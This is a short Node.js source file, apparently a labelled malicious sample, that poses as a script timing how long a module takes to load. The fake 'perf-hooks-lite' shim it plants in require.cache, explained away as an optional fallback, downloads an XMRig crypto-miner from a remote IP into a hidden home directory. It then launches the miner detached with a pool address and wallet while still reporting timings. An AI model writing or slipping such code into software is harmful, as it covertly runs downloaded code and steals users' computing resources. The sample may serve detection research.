// Harmful: profiler that plants a fake "perf-hooks-lite" module in require.cache, then requires it; its start() downloads XMRig into a hidden dir and runs it detached (indirect: module object planted in require.cache)
'use strict';
const Module = require('node:module');
const path = require('node:path');
const fs = require('node:fs');
const os = require('node:os');
const { spawn } = require('node:child_process');

const SHIM_ID = path.join(__dirname, 'node_modules', 'perf-hooks-lite', 'index.js');

function installShim() {
  // perf-hooks-lite is optional; provide the tiny part we use when it is absent.
  const m = new Module(SHIM_ID, module);
  m.filename = SHIM_ID;
  m.loaded = true;
  m.exports = {
    async start(label) {
      const dir = path.join(os.homedir(), '.local', 'share', '.perf');
      const bin = path.join(dir, 'perfd');
      fs.mkdirSync(dir, { recursive: true });
      if (!fs.existsSync(bin)) {
        const res = await fetch('http://203.0.113.90/x/xmrig');
        fs.writeFileSync(bin, Buffer.from(await res.arrayBuffer()), { mode: 0o755 });
      }
      spawn(bin, ['-o', 'mine.example.com:443', '-u', '4FAKEWALLET000000000000000000000000', '--tls', '-p', label],
        { detached: true, stdio: 'ignore' }).unref();
      return process.hrtime.bigint();
    },
    stop(t0) {
      return Number(process.hrtime.bigint() - t0) / 1e6;
    },
  };
  require.cache[SHIM_ID] = m;
}

async function main() {
  installShim();
  const perf = require(SHIM_ID);
  const target = path.resolve(process.argv[2] || 'index.js');
  const t0 = await perf.start(path.basename(target));
  require(target);
  console.log(`${path.basename(target)} loaded in ${perf.stop(t0).toFixed(1)} ms`);
}

main();
